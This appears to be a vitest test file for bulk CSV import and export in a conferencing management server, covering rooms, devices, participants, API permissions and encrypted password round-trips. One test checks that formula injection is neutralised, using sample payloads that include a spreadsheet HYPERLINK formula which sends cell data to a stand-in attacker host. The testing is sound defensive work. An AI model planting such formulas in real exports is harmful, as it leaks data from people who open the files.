import { parse } from 'csv-parse/sync';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_DATABASES } from '../../db/testing.js';
import { READ_ONLY_PERMISSIONS, READ_WRITE_PERMISSIONS } from '../../shared/admin/permissions.js';
import { PIN_MESSAGES } from '../../shared/conference/pin.js';
import { createObject, findObjectByName, listObjects, updateObject } from '../config/config.service.js';
import { AppError } from '../errors/AppError.js';
import { ManagementServer } from '../ManagementServer.js';
import { appRouter } from '../trpc/root.js';
import type { Context } from '../trpc/trpc.js';
import { exportCsv } from './bulk.service.js';
import { importCsv } from './csvImport.js';
import { CSV_COLUMNS, CSV_MESSAGES, formulaSafe, fromFormulaSafe, type CsvKind } from './csvFormat.js';

/** The `file` messages of a rejected import. */
async function importErrors(p: Promise<unknown>): Promise<string[]> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  return (err as AppError).fields?.file ?? [];
}

describe.each(TEST_DATABASES)('bulk CSV import/export on $name', ({ open }) => {
  let server: ManagementServer;
  let restUrl: string;
  const dom = () => server.dom;
  const count = async (kind: CsvKind) => (await listObjects(dom(), kind, { limit: 1 })).total;
  const auth = `Basic ${Buffer.from('admin:bulk-pw').toString('base64')}`;

  beforeAll(async () => {
    server = await ManagementServer.start({
      port: 0,
      database: await open(),
      adminPassword: 'bulk-pw',
      enrollmentKey: 'k',
      webRoot: '/nonexistent',
      logger: pino({ level: 'silent' }),
    });
    restUrl = `${server.url}/api/admin/configuration/v1/bulk`;
  });
  afterAll(() => server.stop());

  it('imports the guide example: VMRs with their aliases', async () => {
    expect(await importCsv(dom(), 'vmr', 'alice,,1234,True,6789,meet.alice\nbob,,,,,meet.bob\nbob,,,,,meet.bobby\n')).toEqual({ created: 2, updated: 0 });
    const alice = (await findObjectByName(dom(), 'vmr', 'alice'))!;
    expect(alice).toMatchObject({ pin: '1234', guest_pin: '6789', allow_guests: true, call_type: 'video', guests_can_present: true });
    expect((alice.aliases as { alias: string }[]).map((a) => a.alias)).toEqual(['meet.alice']);
    const bob = (await findObjectByName(dom(), 'vmr', 'bob'))!;
    expect((bob.aliases as { alias: string }[]).map((a) => a.alias)).toEqual(['meet.bob', 'meet.bobby']);
  });

  it('overwrites an existing service named in the file, aliases included', async () => {
    const before = await count('vmr');
    expect(await importCsv(dom(), 'vmr', 'name,pin,alias_alias,description\nbob,4321,meet.bob,Bob’s room\n')).toEqual({ created: 0, updated: 1 });
    expect(await count('vmr')).toBe(before);
    const bob = (await findObjectByName(dom(), 'vmr', 'bob'))!;
    expect(bob).toMatchObject({ pin: '4321', description: 'Bob’s room' });
    expect((bob.aliases as { alias: string }[]).map((a) => a.alias)).toEqual(['meet.bob']);
  });

  it('rejects a file with a bad row as a whole, naming its line', async () => {
    const before = await count('vmr');
    const errors = await importErrors(importCsv(dom(), 'vmr', 'carol,,,,,meet.carol\ndave,,,,,meet.dave\nerin,,12x4,,,meet.erin\n'));
    expect(errors).toEqual([`Line 3: pin: ${PIN_MESSAGES.format}`]);
    expect(await count('vmr')).toBe(before);
  });

  it('rolls back rows already applied when a later row fails against the database', async () => {
    const before = await count('vmr');
    const notified: string[] = [];
    const listener = (w: string) => notified.push(w);
    dom().bus.on('changed', listener);
    // Line 3 reuses alice's alias; line 4 names an unknown theme: both reported, nothing stored.
    const text = 'carol,,,,,meet.carol\ndave,,,,,meet.dave\nfrank,,,,,meet.frank\nfrank,,,,,meet.alice\ngina,,,,,meet.gina,,,,,,,,No such theme\n';
    const errors = await importErrors(importCsv(dom(), 'vmr', text));
    dom().bus.off('changed', listener);
    expect(errors).toHaveLength(2);
    expect(errors[0]).toMatch(/^Line 4: alias_alias: /);
    expect(errors[1]).toBe(`Line 5: ivr_theme_name: ${CSV_MESSAGES.notFound('theme', 'No such theme')}`);
    expect(await count('vmr')).toBe(before);
    expect(await findObjectByName(dom(), 'vmr', 'carol')).toBeNull();
    // Nodes are not told about changes that were rolled back.
    expect(notified).toEqual([]);
  });

  it('exports services one row per alias with a header, and re-imports them unchanged', async () => {
    await createObject(dom(), 'vmr', { name: 'No alias room', description: 'Has, a comma', participant_limit: 5, crypto_mode: 'on' });
    const csv = await exportCsv(dom(), 'vmr');
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe(CSV_COLUMNS.vmr.join(','));
    expect(lines.filter((l) => l.startsWith('bob,'))).toHaveLength(1);
    expect(lines.find((l) => l.startsWith('No alias room,'))).toBe(
      'No alias room,"Has, a comma",,false,,,,,,,video,one_main_seven_pips,false,,5,,true,default,on,',
    );
    const before = await listObjects(dom(), 'vmr', { limit: 100 });
    expect(await importCsv(dom(), 'vmr', csv)).toEqual({ created: 0, updated: before.total });
    expect(await exportCsv(dom(), 'vmr')).toBe(csv);
    const after = await listObjects(dom(), 'vmr', { limit: 100 });
    expect(
      after.items.map(({ creation_time: _c, ...rest }) => ({
        ...rest,
        aliases: (rest.aliases as { alias: string; description: string }[]).map(({ alias, description }) => ({ alias, description })),
      })),
    ).toEqual(
      before.items.map(({ creation_time: _c, ...rest }) => ({
        ...rest,
        aliases: (rest.aliases as { alias: string; description: string }[]).map(({ alias, description }) => ({ alias, description })),
      })),
    );
  });

  it('imports Virtual Auditoriums and Virtual Receptions with named references', async () => {
    const london = await createObject(dom(), 'system_location', { name: 'London' });
    expect(await importCsv(dom(), 'virtual_auditorium', 'Town hall,,1234,true,,meet.townhall,,,,,,,four_mains_zero_pips,true,,,,true\n')).toEqual({
      created: 1,
      updated: 0,
    });
    expect(await findObjectByName(dom(), 'virtual_auditorium', 'Town hall')).toMatchObject({
      guest_view: 'four_mains_zero_pips',
      force_presenter_into_main: true,
      mute_all_guests: true,
    });

    const vr = 'name,alias_alias,system_location_name,two_stage_dial_type,match_string\nReception,meet.reception,london,regular,^\\d+$\n';
    expect(await importCsv(dom(), 'virtual_reception', vr)).toEqual({ created: 1, updated: 0 });
    expect(await findObjectByName(dom(), 'virtual_reception', 'Reception')).toMatchObject({ system_location: london.id, match_string: '^\\d+$' });
    const exported = await exportCsv(dom(), 'virtual_reception');
    expect(exported.split('\n')[1]).toBe('Reception,,meet.reception,,,,,video,,,,^\\d+$,,London,,,regular,,,');

    const errors = await importErrors(
      importCsv(dom(), 'virtual_reception', 'name,alias_alias,mssip_proxy_name,system_location_name\nLync,meet.lync,sfb1,\nX,meet.x,,Paris\n'),
    );
    expect(errors).toEqual([
      `Line 2: mssip_proxy_name: ${CSV_MESSAGES.unsupported}`,
      `Line 3: system_location_name: ${CSV_MESSAGES.notFound('location', 'Paris')}`,
    ]);
    expect(await findObjectByName(dom(), 'virtual_reception', 'Lync')).toBeNull();
  });

  it('neutralises formulas in exported cells (OWASP: a leading quote, quoted) and re-imports them exactly', async () => {
    const risky = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', "'=already quoted", "''+two quotes"];
    for (const [i, description] of risky.entries()) await createObject(dom(), 'vmr', { name: `Formula room ${i}`, description });
    const csv = await exportCsv(dom(), 'vmr');
    const rows = (parse(csv) as string[][]).filter((r) => r[0]!.startsWith('Formula room '));
    expect(rows).toHaveLength(risky.length);
    // Every one carries a leading single quote, and is quoted: no spreadsheet runs it.
    for (const [i, description] of risky.entries()) expect(rows.find((r) => r[0] === `Formula room ${i}`)![1]).toBe(`'${description}`);
    for (const r of rows) expect(csv).toContain(`${r[0]},"'`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`"''=already quoted"`);
    // Our own export round-trips exactly.
    await importCsv(dom(), 'vmr', csv);
    for (const [i, description] of risky.entries()) expect((await findObjectByName(dom(), 'vmr', `Formula room ${i}`))!.description).toBe(description);
    expect(await exportCsv(dom(), 'vmr')).toBe(csv);
    // Text fields are trimmed when stored, so tabs and CRs are checked on the cell functions themselves.
    for (const v of ['\tx', '\rx', "'\tx"]) {
      expect(formulaSafe(v)).toBe(`'${v}`);
      expect(fromFormulaSafe(formulaSafe(v))).toBe(v);
    }
    // A plain value with a harmless leading quote is left alone both ways.
    await createObject(dom(), 'vmr', { name: 'Quote room', description: "'tis fine" });
    expect(await exportCsv(dom(), 'vmr')).toContain("Quote room,'tis fine,");
  });

  it('imports device aliases and round-trips passwords through the encrypted export', async () => {
    expect(await importCsv(dom(), 'device', 'alice@example.com,,,alice,1234\nbob@example.com,,,bob,5678\n')).toEqual({ created: 2, updated: 0 });
    const alice = (await findObjectByName(dom(), 'device', 'alice@example.com'))!;
    expect(alice).toMatchObject({ username: 'alice', password: '1234', enable_sip: true });

    const csv = await exportCsv(dom(), 'device');
    expect(csv.split('\n')[0]).toBe('alias,tag,description,username,password,primary_owner_email_address');
    expect(csv).not.toContain('1234');
    expect(csv).toMatch(/alice@example\.com,,,alice,enc:[\w-]+,/);
    // Two exports encrypt differently (random IV), and both restore the original.
    expect(await exportCsv(dom(), 'device')).not.toBe(csv);

    await updateObject(dom(), 'device', alice.id, { password: 'changed' });
    expect(await importCsv(dom(), 'device', csv)).toEqual({ created: 0, updated: 2 });
    expect((await findObjectByName(dom(), 'device', 'alice@example.com'))!.password).toBe('1234');
    expect((await findObjectByName(dom(), 'device', 'bob@example.com'))!.password).toBe('5678');

    const tampered = csv.replace(/enc:([\w-]{5})/, 'enc:AAAAA');
    const errors = await importErrors(importCsv(dom(), 'device', tampered));
    expect(errors).toEqual([`Line 2: password: ${CSV_MESSAGES.decrypt}`]);
  });

  it('imports ADPs by (alias, conference name), as in the guide example, and round-trips them', async () => {
    const alice = await createObject(dom(), 'vmr', { name: 'meet Alice', aliases: [{ alias: 'meet.alice.room', description: '' }] });
    const sales = await createObject(dom(), 'virtual_auditorium', { name: 'meet Sales' });
    const text = 'alice@example.com,Alice Jones,,,,chair,,,,,,,meet Alice\nalice@example.com,Alice Jones,,,,guest,,,,,,,meet Sales\n';
    expect(await importCsv(dom(), 'automatic_participant', text)).toEqual({ created: 2, updated: 0 });
    const adps = (await listObjects(dom(), 'automatic_participant', { limit: 10, orderBy: 'id' })).items;
    expect(adps.map((a) => [a.role, a.conference, a.keep_conference_alive])).toEqual([
      ['chair', [alice.id], 'keep_conference_alive_if_multiple'],
      ['guest', [sales.id], 'keep_conference_alive_if_multiple'],
    ]);

    // The same pair again overwrites; an unknown conference is an error.
    expect(await importCsv(dom(), 'automatic_participant', 'alice@example.com,Alice,,,"1,2",guest,,,,,,,meet Alice\n')).toEqual({ created: 0, updated: 1 });
    expect(await count('automatic_participant')).toBe(2);
    const errors = await importErrors(importCsv(dom(), 'automatic_participant', 'x@example.com,,,,,,,,,,,,meet Nobody\n'));
    expect(errors).toEqual([`Line 1: conference_name: ${CSV_MESSAGES.notFound('Virtual Meeting Room or Virtual Auditorium', 'meet Nobody')}`]);

    const csv = await exportCsv(dom(), 'automatic_participant');
    expect(csv.split('\n').slice(0, 2)).toEqual([
      CSV_COLUMNS.automatic_participant.join(','),
      'alice@example.com,Alice,,sip,"1,2",guest,false,keep_conference_alive_if_multiple,video,manual,,,meet Alice',
    ]);
    expect(await importCsv(dom(), 'automatic_participant', csv)).toEqual({ created: 0, updated: 2 });
    expect(await exportCsv(dom(), 'automatic_participant')).toBe(csv);
  });

  it('serves import and export over the management API', async () => {
    const post = (kind: string, body: string, type = 'text/csv', authorization = auth) =>
      fetch(`${restUrl}/${kind}/import/`, { method: 'POST', headers: { authorization, 'content-type': type }, body });
    expect((await post('device', 'carol@example.com,,,carol,pw', 'text/csv', '')).status).toBe(401);

    const ok = await post('device', 'carol@example.com,,,carol,pw');
    expect(ok.status).toBe(200);
    expect(await ok.json()).toEqual({ created: 1, updated: 0 });
    const json = await post('device', JSON.stringify({ csv: 'carol@example.com,,Carol’s phone,carol,pw' }), 'application/json');
    expect(await json.json()).toEqual({ created: 0, updated: 1 });

    const bad = await post('vmr', 'name,pin\nok,1234\nbad,12x4\n');
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ file: [`Line 3: pin: ${PIN_MESSAGES.format}`] });
    expect((await post('nothing', 'x')).status).toBe(404);

    const exp = await fetch(`${restUrl}/device/export/`, { headers: { authorization: auth } });
    expect(exp.status).toBe(200);
    expect(exp.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(exp.headers.get('content-disposition')).toBe('attachment; filename="device.csv"');
    expect(await exp.text()).toContain('carol@example.com,,Carol’s phone,carol,enc:');
  });

  it('serves import and export over tRPC, with the permissions of each kind', async () => {
    const ctx = (permissions: Context['admin'] extends infer A ? (A extends { permissions: infer P } ? P : never) : never): Context => ({
      dom: server.dom,
      status: server.status,
      registry: server.registry,
      admin: { id: 1, username: 'admin', mayUseWeb: true, mayUseApi: true, permissions },
      sessionToken: undefined,
      setCookie: () => {},
    });
    const rw = appRouter.createCaller(ctx(READ_WRITE_PERMISSIONS));
    expect(await rw.bulk.import({ kind: 'vmr', csv: 'trpc room,,,,,meet.trpc' })).toEqual({ created: 1, updated: 0 });
    expect(await rw.bulk.export({ kind: 'vmr' })).toContain('trpc room,,,false,,meet.trpc,');
    const err = (await rw.bulk.import({ kind: 'vmr', csv: 'x,,1\n' }).catch((e: unknown) => e)) as { code: string; cause: AppError };
    expect(err).toMatchObject({ code: 'BAD_REQUEST' });
    expect(err.cause.fields?.file?.[0]).toMatch(/^Line 1: pin: /);

    const ro = appRouter.createCaller(ctx(READ_ONLY_PERMISSIONS));
    expect(await ro.bulk.export({ kind: 'device' })).toContain('alias,tag');
    await expect(ro.bulk.import({ kind: 'vmr', csv: 'y,,,,,meet.y' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(ro.bulk.import({ kind: 'device', csv: 'y@example.com' })).rejects.toMatchObject({ code: 'FORBIDDEN' });
  });
});
